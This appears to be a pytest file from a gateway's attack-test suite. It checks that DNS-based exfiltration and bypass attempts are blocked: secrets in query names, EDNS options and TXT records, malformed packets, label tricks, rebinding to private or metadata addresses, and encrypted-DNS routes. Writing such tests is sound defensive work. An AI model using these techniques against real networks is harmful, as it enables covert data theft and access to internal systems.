"""Questions as a way out, and answers as a way in."""

from __future__ import annotations

import socket

import dns.flags
import dns.message
import dns.rcode
import pytest

from tests.attacks.builders import dns as ask
from tests.attacks.builders import get, question, resolve, tcp, udp
from tests.attacks.conftest import Attacker
from tests.lab import Lab
from tests.lab.addresses import v4

A, X = v4(10), v4(66)
POLICY = "a.test *.w.test"
GATEWAY = "100.127.0.2"
SERVERS = (GATEWAY, X, "8.8.8.8", "2001:4860:4860::8888")


@pytest.mark.parametrize("stream", [False, True], ids=["UDP", "TCP"])
@pytest.mark.parametrize("server", SERVERS)
def test_a_denied_name_is_asked_of_nobody(
    attack: Attacker, server: str, *, stream: bool
) -> None:
    """The question itself could carry a secret, to whichever server it is sent.

    The gateway answers it, with the reason, and not one packet leaves.
    """
    outcome = attack(POLICY, ask(server, question("secret.d.test"), stream=stream))
    assert sum(outcome.packets.values()) == 0
    answer = dns.message.from_wire(outcome.got(0))
    assert answer.rcode() == dns.rcode.NOERROR
    assert answer.answer[0].ttl == 1
    assert answer.answer[0][0].to_text().startswith("100.126.")
    assert answer.options[0].code == 15
    assert "hostname_not_allowed" in answer.options[0].text
    assert outcome.reasons(kind="dns") == {"hostname_not_allowed"}
    control = attack("*.d.test", ask(server, question("secret.d.test"), stream=stream))
    assert control.run.saw(kind="dns", name="secret.d.test")
    assert control.arrived(X) == control.arrived("8.8.8.8") == 0


def test_without_a_policy_list_nothing_is_asked(attack: Attacker) -> None:
    """An empty list denies everything, names first of all."""
    outcome = attack(None, resolve("a.test"), ask(X, question("a.test")))
    assert sum(outcome.packets.values()) == 0
    assert outcome.reasons(verdict="allow") == set()


@pytest.mark.parametrize(
    "name",
    ["w.test", "nota.test", "a.test.x.test", "xw.test", "d.test.", "D.TesT"],
)
def test_names_that_only_look_allowed_are_denied(attack: Attacker, name: str) -> None:
    """The apex of a wildcard, and names that end or begin like an allowed one."""
    outcome = attack(POLICY, ask(GATEWAY, question(name)))
    assert sum(outcome.packets.values()) == 0
    assert outcome.reasons(kind="dns") == {"hostname_not_allowed"}


@pytest.mark.parametrize(
    "name", ["a.test", "A.TEST.", "x.w.test", "x.y.w.test", "_acme.w.test"]
)
def test_allowed_names_are_answered(attack: Attacker, name: str) -> None:
    """The control of the above: any case, any depth, a final dot, an underscore."""
    outcome = attack(POLICY, ask(GATEWAY, question(name)))
    assert outcome.run.saw(kind="dns", name=name.rstrip("."))
    assert dns.message.from_wire(outcome.got(0)).answer


def test_labels_with_dots_and_nulls_are_not_read_as_names(attack: Attacker) -> None:
    """A label may hold any octet: `a.test` as one label, or a NUL before an allowed end."""
    outcome = attack(
        "test.w.test *.w.test a.test",
        ask(GATEWAY, question([b"a.test"])),
        ask(GATEWAY, question([b"evil\0", b"w", b"test"])),
        ask(GATEWAY, question([b"x\\046w", b"w", b"test"])),
        ask(GATEWAY, question([b"*", b"w", b"test"])),
        ask(GATEWAY, question([b"a@b", b"w", b"test"])),
    )
    assert sum(outcome.packets.values()) == 0
    assert outcome.reasons(verdict="allow") == set()


OTHER_TYPES = {
    "NS": 2, "CNAME": 5, "SOA": 6, "NULL": 10, "HINFO": 13, "MX": 15, "TXT": 16,
    "SRV": 33, "SVCB": 64, "HTTPS": 65, "AXFR": 252, "ANY": 255, "TYPE65280": 65280,
}  # fmt: skip


def test_other_types_are_answered_with_nothing(attack: Attacker) -> None:
    """TXT and its like are channels; HTTPS records carry addresses and ECH keys."""
    outcome = attack(
        "https-rr.test txt.test",
        *(ask(GATEWAY, question("https-rr.test", t)) for t in OTHER_TYPES.values()),
        ask(GATEWAY, question("txt.test", 16)),
    )
    assert sum(outcome.packets.values()) == 0
    for index in range(len(outcome.results)):
        answer = dns.message.from_wire(outcome.got(index))
        assert answer.rcode() == dns.rcode.NOERROR
        assert not answer.answer
    assert outcome.reasons(kind="dns") == {"dns_type"}
    control = attack("all", ask(GATEWAY, question("txt.test", 16)))
    assert "payload" in str(dns.message.from_wire(control.got(0)).answer[0])


MALFORMED = {
    "a response": question("a.test", flags=0x8100),
    "an update": question("a.test", flags=0x2800),
    "a notify": question("a.test", flags=0x2000),
    "no question": bytes.fromhex("123401000000000000000000"),
    "two questions": bytes.fromhex("123401000002000000000000")
    + 2 * b"\x01a\x04test\0\0\1\0\1",
    "a pointer loop": bytes.fromhex("123401000001000000000000c00c00010001"),
    "a pointer past the end": bytes.fromhex("123401000001000000000000c0ff00010001"),
    "a cut name": bytes.fromhex("1234010000010000000000003f61"),
    "trailing octets": question("a.test") + b"secret",
    "an answer in a question": bytes.fromhex("123401000001000100000000")
    + b"\x01a\x04test\0\0\1\0\1"
    + b"\x01a\x04test\0\0\1\0\1\0\0\0\0\0\4\1\2\3\4",
    "too short": b"\x12\x34",
}


def test_malformed_messages_are_not_passed_on(attack: Attacker) -> None:
    """Anything but one plain question: nothing of it may reach a resolver."""
    outcome = attack(POLICY, *(ask(GATEWAY, raw) for raw in MALFORMED.values()))
    assert sum(outcome.packets.values()) == 0
    control = attack(POLICY, ask(GATEWAY, question("a.test")))
    assert control.run.saw(kind="dns", name="a.test")


def test_questions_are_rebuilt_and_options_stay_inside(attack: Attacker) -> None:
    """An EDNS option, a client subnet say, could carry data to the zone's servers."""
    option = bytes.fromhex("fde9") + (6).to_bytes(2, "big") + b"secret"
    raw = question("a.test")[:-2] + len(option).to_bytes(2, "big") + option
    outcome = attack(POLICY, ask(GATEWAY, raw))
    seen = outcome.run.saw(kind="dns", name="a.test")
    assert seen
    assert not [entry for entry in seen if b"secret" in entry.data]


BARRED = {
    "private.test": "guardrail_private",
    "cname-to-private.test": "guardrail_private",
    "cgnat.test": "guardrail_private",
    "loopback.test": "guardrail_loopback",
    "zero.test": "guardrail_reserved",
    "metadata.test": "guardrail_metadata",
    "metadata-task.test": "guardrail_metadata",
    "hostaddr.test": "guardrail_host",
    "hostextra.test": "guardrail_host",
    "slot.test": "guardrail_host",
    "multicast.test": "guardrail_multicast",
    "broadcast.test": "guardrail_reserved",
    "reserved.test": "guardrail_reserved",
}


def test_answers_that_point_inside_are_removed(attack: Attacker) -> None:
    """Rebinding: an allowed name's own servers answer with an address of the inside.

    The devbox is not given it, and the name cannot be used to reach it either.
    """
    policy = " ".join(BARRED)
    outcome = attack(
        policy,
        *(ask(GATEWAY, question(name)) for name in BARRED),
        *(tcp(X, 8080, get(name)) for name in BARRED),
    )
    for index, (name, reason) in enumerate(BARRED.items()):
        assert not dns.message.from_wire(outcome.got(index)).answer or all(
            rrset.rdtype != 1
            for rrset in dns.message.from_wire(outcome.got(index)).answer
        ), name
        assert outcome.reasons(kind="dns", name=name, verdict="deny") == {reason}, name
    assert not outcome.run.saw(kind="http")
    assert outcome.reasons(kind="http", verdict="allow") == set()
    assert {key.address for key in outcome.packets} <= {v4(53), "2001:db8::53"}
    open_private = {
        "name": "x",
        "allowed_hostnames": ["private.test"],
        "allowed_cidrs": [{"cidr": "10.20.0.0/16"}],
    }
    control = attack(open_private, ask(GATEWAY, question("private.test")))
    assert dns.message.from_wire(control.got(0)).answer


def test_embedded_addresses_are_seen_through(attack: Attacker) -> None:
    """AAAA answers that carry an IPv4 address: mapped, 6to4."""
    names = ("mapped.test", "sixtofour.test")
    outcome = attack(
        " ".join(names), *(ask(GATEWAY, question(name, 28)) for name in names)
    )
    for index in range(len(names)):
        assert not dns.message.from_wire(outcome.got(index)).answer
    assert outcome.reasons(kind="dns", verdict="allow") == set()


def test_of_mixed_answers_only_the_good_addresses_are_used(attack: Attacker) -> None:
    """One public and one private address: the private one is not given, nor dialled."""
    outcome = attack("mixed.test", *(tcp("mixed.test", 80, get("mixed.test")),) * 4)
    assert {entry.address for entry in outcome.run.saw(kind="http")} == {v4(45)}
    assert outcome.arrived("10.20.0.10") == 0


def test_a_chain_allows_the_name_and_not_its_members(attack: Attacker) -> None:
    """cname-to-d.test leads to a name that is denied when it is asked for by itself."""
    outcome = attack(
        "cname-to-d.test",
        tcp("cname-to-d.test", 80, get("cname-to-d.test")),
        ask(GATEWAY, question("cdn.d.test")),
    )
    assert outcome.run.saw(kind="http", name="cname-to-d.test")
    assert outcome.reasons(kind="dns", name="cdn.d.test") == {"hostname_not_allowed"}


@pytest.mark.parametrize("name", ["long-chain.test", "loop.test"])
def test_endless_chains_lead_nowhere(attack: Attacker, name: str) -> None:
    """Twenty hops, or a circle."""
    outcome = attack(name, ask(GATEWAY, question(name)))
    assert dns.message.from_wire(outcome.got(0)).rcode() == dns.rcode.SERVFAIL


@pytest.mark.parametrize("name", ["liar.test", "liar-question.test", "garbage.test"])
def test_answers_to_other_questions_are_not_believed(
    attack: Attacker, name: str
) -> None:
    """A wrong id, another question, rubbish: as a forger off the path would send."""
    outcome = attack(name, ask(GATEWAY, question(name)))
    rcode = dns.message.from_wire(outcome.got(0)).rcode() if outcome.got(0) else None
    assert rcode in (None, dns.rcode.SERVFAIL)
    assert outcome.arrived(X) == 0


def test_long_answers_come_by_tcp(attack: Attacker) -> None:
    """The control of the above: an honest resolver that truncates is asked again."""
    outcome = attack("tcponly.test", resolve("tcponly.test", socket.AF_INET))
    assert outcome.results[0]["addresses"] == [v4(52)]


def test_addresses_stay_good_after_their_time_to_live(attack: Attacker) -> None:
    """Clients keep addresses for hours; a name with TTL 0 works when connected later."""
    outcome = attack(
        "ttl0.test rotating.test",
        *(tcp("ttl0.test", 80, get("ttl0.test")),) * 3,
        *(tcp("rotating.test", 80, get("rotating.test")),) * 3,
    )
    assert len(outcome.run.saw(kind="http")) == 6
    assert outcome.reasons(verdict="deny") == set()


def test_encrypted_dns_is_no_way_around(attack: Attacker) -> None:
    """DoT, DoQ, DNSCrypt and DoH by address: none of them has an allowed name."""
    outcome = attack(
        POLICY,
        tcp("8.8.8.8", 853, b"\x00\x1d" + question("d.test")),
        udp("8.8.8.8", 853, question("d.test")),
        udp("8.8.8.8", 784, question("d.test")),
        udp("8.8.8.8", 443, question("d.test")),
        udp("8.8.8.8", 5353, question("d.test")),
    )
    assert sum(outcome.packets.values()) == 0
    assert [r.get("error") for r in outcome.results[1:]] == ["OSError"] * 4 or all(
        r.get("error") for r in outcome.results[1:]
    )


def test_the_lab_would_have_seen_it(lab: Lab) -> None:
    """The witness works: the same question from the uplink is recorded."""
    mark = lab.mark()
    lab.exec_host(["dig", "+tries=1", "+time=1", "@8.8.8.8", "secret.d.test"])
    assert lab.seen(since=mark, kind="dns", name="secret.d.test")
